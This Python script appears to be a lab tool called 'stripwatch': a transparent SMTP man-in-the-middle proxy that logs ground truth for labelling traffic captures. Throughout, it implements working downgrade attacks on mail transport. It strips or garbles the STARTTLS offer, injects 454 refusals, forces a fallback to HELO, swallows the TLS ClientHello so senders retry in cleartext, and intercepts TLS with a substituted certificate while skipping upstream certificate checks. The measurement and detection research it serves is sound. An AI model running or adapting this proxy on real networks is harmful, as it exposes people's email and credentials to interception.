#!/usr/bin/python3
"""Transparent SMTP man-in-the-middle for the stripwatch lab (Python 3 stdlib only).

Runs inside the MITM namespace behind an nftables `redirect` rule, so the sender believes it talks
to the receiver's address while this process terminates its TCP connection and opens a second one
to the receiver (vantage A and vantage B therefore see two different TCP connections, exactly as
with a real inline SMTP "fixup" box or a transparent attacker proxy).

Modes (what the attacker does, applied before the first MAIL command only):
  pass        relay unchanged (used for the untampered sessions of the mixed capture)
  strip       remove the STARTTLS line from the EHLO reply (fixing the last-line marker)
  garble      overwrite STARTTLS in the EHLO reply with same-length garbage (default XXXXXXXA,
              as Cisco ASA ESMTP inspection does)
  inject454   answer the client's STARTTLS with 454 itself; the receiver never sees the command
  garblecmd   overwrite the client's STARTTLS command with same-length garbage; the receiver
              answers 502 and the client sees that rejection
  ehloerror   forward EHLO but replace the receiver's reply with 502, so the client falls back
              to HELO (no extensions, hence no STARTTLS)
  tlsblock    let STARTTLS/220 through, swallow the ClientHello and close both connections
              (a middlebox that blocks TLS without a RST); the sender retries in cleartext
  certswap    let STARTTLS through, then terminate TLS towards the client with the attacker's
              certificate and open a second TLS session to the receiver (TLS interception)

Every accepted connection is logged as one JSON line (client, original destination, upstream
local address, mode, actions taken) so the lab can label both vantage points from ground truth.
"""
import argparse
import json
import random
import select
import socket
import ssl
import struct
import sys
import threading
import time

SO_ORIGINAL_DST = 80
SOL_IPV6 = 41
MAX_LINE = 4096
REPLY_454 = b"454 4.7.0 TLS not available due to local problem\r\n"
REPLY_EHLO_ERR = b"502 5.5.2 Error: command not recognized\r\n"


def original_dst(sock):
    """Destination before the nftables redirect (netfilter SO_ORIGINAL_DST / IP6T_SO_ORIGINAL_DST)."""
    if sock.family == socket.AF_INET:
        raw = sock.getsockopt(socket.SOL_IP, SO_ORIGINAL_DST, 16)
        port = struct.unpack("!H", raw[2:4])[0]
        return socket.inet_ntop(socket.AF_INET, raw[4:8]), port
    raw = sock.getsockopt(SOL_IPV6, SO_ORIGINAL_DST, 28)
    port = struct.unpack("!H", raw[2:4])[0]
    return socket.inet_ntop(socket.AF_INET6, raw[8:24]), port


class Conn:
    def __init__(self, cfg, index, client, addr, log, mode):
        self.cfg, self.index, self.client, self.addr, self.log = cfg, index, client, addr, log
        self.mode = mode
        self.token = cfg.tokens[index % len(cfg.tokens)].encode()
        self.actions = []
        self.pending = []  # commands sent upstream (or answered by us) awaiting a reply

    def run(self):
        rec = {"index": self.index, "t_accept": time.time(), "mode": self.mode,
               "client": list(self.addr[:2])}
        try:
            dst = original_dst(self.client)
            rec["orig_dst"] = list(dst)
            up = socket.create_connection(dst, timeout=10)
            rec["upstream_local"] = list(up.getsockname()[:2])
            self.client.settimeout(30)
            up.settimeout(30)
            a, b = self.line_phase(self.client, up)
            if a is not None:
                relay(a, b)
        except Exception as exc:  # lab tool: record, never crash the listener
            rec["error"] = repr(exc)
        finally:
            rec["actions"] = self.actions
            rec["t_end"] = time.time()
            with self.cfg.lock:
                self.log.write(json.dumps(rec) + "\n")
                self.log.flush()
            for s in (self.client,):
                try:
                    s.close()
                except OSError:
                    pass

    # --- SMTP line phase -------------------------------------------------------------------
    def line_phase(self, cli, up):
        """Relay line by line until MAIL (cleartext) or STARTTLS 220; returns sockets for relay."""
        cbuf, sbuf, reply = b"", b"", []
        while True:
            r, _, _ = select.select([cli, up], [], [], 60)
            if not r:
                return None, None
            if cli in r:
                data = cli.recv(65536)
                if not data:
                    up.shutdown(socket.SHUT_WR)
                    return cli, up
                cbuf += data
                while b"\n" in cbuf:
                    line, cbuf = cbuf.split(b"\n", 1)
                    verb = line.strip().split(b" ", 1)[0].upper()
                    if verb in (b"MAIL", b"DATA", b"BDAT", b"RCPT"):
                        up.sendall(line + b"\n" + cbuf)
                        return cli, up
                    self.client_line(line + b"\n", verb, cli, up)
                if len(cbuf) > MAX_LINE:
                    up.sendall(cbuf)
                    return cli, up
            if up in r:
                data = up.recv(65536)
                if not data:
                    cli.shutdown(socket.SHUT_WR)
                    return cli, up
                sbuf += data
                while b"\n" in sbuf:
                    line, sbuf = sbuf.split(b"\n", 1)
                    reply.append(line + b"\n")
                    if len(line) >= 4 and line[3:4] == b"-":
                        continue
                    done = self.server_reply(reply, cli, up)
                    reply = []
                    if done is not None:
                        return done

    def client_line(self, line, verb, cli, up):
        if verb == b"STARTTLS" and self.mode == "inject454":
            self.actions.append("answered STARTTLS with 454, not forwarded")
            cli.sendall(REPLY_454)
            return
        if verb == b"STARTTLS" and self.mode == "garblecmd":
            garbled = line.replace(line[:8], self.token, 1)
            self.actions.append("client STARTTLS rewritten to " + self.token.decode())
            self.pending.append(b"GARBLED")
            up.sendall(garbled)
            return
        self.pending.append(verb)
        up.sendall(line)

    def server_reply(self, lines, cli, up):
        cmd = self.pending.pop(0) if self.pending else b"<greeting>"
        if cmd == b"EHLO" and self.mode == "ehloerror":
            self.actions.append("EHLO reply replaced with 502")
            cli.sendall(REPLY_EHLO_ERR)
            return None
        if cmd == b"EHLO" and self.mode in ("strip", "garble"):
            lines = self.edit_ehlo(lines)
        if cmd == b"STARTTLS" and lines[0][:3] == b"220":
            if self.mode == "certswap":
                return self.certswap(lines, cli, up)
            if self.mode == "tlsblock":
                return self.tlsblock(lines, cli, up)
            cli.sendall(b"".join(lines))
            return cli, up  # TLS follows: relay opaque bytes
        cli.sendall(b"".join(lines))
        return None

    def tlsblock(self, lines, cli, up):
        """Let STARTTLS/220 through, swallow the ClientHello, then close both sides with FIN."""
        cli.sendall(b"".join(lines))
        up.shutdown(socket.SHUT_WR)  # the receiver never gets a ClientHello
        buf = b""
        while len(buf) < 5 or len(buf) < 5 + int.from_bytes(buf[3:5], "big"):
            data = cli.recv(65536)  # read the whole record: closing with unread data sends RST
            if not data:
                break
            buf += data
        self.actions.append("ClientHello (%d bytes) swallowed, connection closed" % len(buf))
        cli.shutdown(socket.SHUT_WR)
        cli.settimeout(10)
        try:
            while cli.recv(65536):
                pass
        except OSError:
            pass
        try:
            while up.recv(65536):
                pass
        except OSError:
            pass
        up.close()
        return None, None

    def edit_ehlo(self, lines):
        out = []
        for ln in lines:
            if ln[4:12].upper() == b"STARTTLS":
                if self.mode == "strip":
                    self.actions.append("STARTTLS line removed from EHLO reply")
                    continue
                self.actions.append("STARTTLS capability overwritten with " + self.token.decode())
                ln = ln[:4] + self.token + ln[12:]
            out.append(ln)
        # keep the multi-line reply well formed: only the last line has a space after the code
        out = [ln[:3] + b"-" + ln[4:] for ln in out[:-1]] + [out[-1][:3] + b" " + out[-1][4:]]
        return out

    def certswap(self, lines, cli, up):
        sctx = ssl.create_default_context()
        sctx.check_hostname = False
        sctx.verify_mode = ssl.CERT_NONE
        # mirror the version offered to the client, as interception boxes usually do
        sctx.maximum_version = (ssl.TLSVersion.TLSv1_2 if self.cfg.tls_max == "1.2"
                                else ssl.TLSVersion.TLSv1_3)
        tls_up = sctx.wrap_socket(up, server_hostname=None)
        cli.sendall(b"".join(lines))
        cctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        cctx.load_cert_chain(self.cfg.cert, self.cfg.key)
        cctx.maximum_version = (ssl.TLSVersion.TLSv1_2 if self.cfg.tls_max == "1.2"
                                else ssl.TLSVersion.TLSv1_3)
        tls_cli = cctx.wrap_socket(cli, server_side=True)
        self.actions.append("TLS intercepted with substituted certificate " + self.cfg.cert_label
                            + " (client side " + tls_cli.version() + ")")
        return tls_cli, tls_up


def relay(a, b):
    """Copy bytes both ways until both directions are closed (works for plain and TLS sockets)."""
    peer = {a: b, b: a}
    live = {a, b}
    while live:
        ready = [s for s in live if isinstance(s, ssl.SSLSocket) and s.pending()]
        if not ready:
            ready, _, _ = select.select(list(live), [], [], 60)
            if not ready:
                return
        for s in ready:
            # non-blocking read: a readable TLS socket may hold only a non-data record (e.g. a
            # TLS 1.3 NewSessionTicket), and a blocking recv() would then stall the session
            s.settimeout(0.0)
            try:
                data = s.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError, socket.timeout):
                continue
            except OSError:
                data = b""
            finally:
                s.settimeout(30)
            if not data:
                live.discard(s)
                try:
                    if isinstance(peer[s], ssl.SSLSocket):
                        peer[s].close()
                        live.discard(peer[s])
                    else:
                        peer[s].shutdown(socket.SHUT_WR)
                except OSError:
                    pass
                continue
            try:
                peer[s].sendall(data)
            except OSError:
                live.clear()
    for s in (a, b):
        try:
            s.close()
        except OSError:
            pass


def serve(cfg):
    log = open(cfg.log, "a")
    socks = []
    for fam, host in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::")):
        s = socket.socket(fam, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        if fam == socket.AF_INET6:
            s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
        s.bind((host, cfg.port))
        s.listen(64)
        socks.append(s)
    index, planned = 0, 0
    print("ready", flush=True)
    while True:
        r, _, _ = select.select(socks, [], [])
        for s in r:
            c, addr = s.accept()
            mode = cfg.mode
            try:
                skip = original_dst(c)[0] in cfg.plan_skip
            except OSError:
                skip = True
            if cfg.plan and not skip:
                # --plan counts only connections to destinations not in --plan-skip, so a
                # planned attack always lands on a receiver that offers STARTTLS
                mode = cfg.plan.get(planned, cfg.mode)
                planned += 1
            conn = Conn(cfg, index, c, addr, log, mode)
            index += 1
            threading.Thread(target=conn.run, daemon=True).start()


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--port", type=int, default=10025)
    ap.add_argument("--mode", default="pass")
    ap.add_argument("--plan", default="", help="JSON object {connection index: mode}")
    ap.add_argument("--plan-skip", default="", help="comma-separated destinations --plan ignores")
    ap.add_argument("--tokens", default="XXXXXXXA", help="comma-separated 8-byte garbage tokens")
    ap.add_argument("--cert")
    ap.add_argument("--key")
    ap.add_argument("--cert-label", default="")
    ap.add_argument("--tls-max", default="1.3")
    ap.add_argument("--log", required=True)
    cfg = ap.parse_args()
    cfg.plan = {int(k): v for k, v in json.loads(cfg.plan).items()} if cfg.plan else {}
    cfg.tokens = cfg.tokens.split(",")
    cfg.plan_skip = set(x for x in cfg.plan_skip.split(",") if x)
    assert all(len(t) == 8 for t in cfg.tokens), "garbage must keep the length of STARTTLS"
    cfg.lock = threading.Lock()
    random.seed(0)
    serve(cfg)


if __name__ == "__main__":
    main()
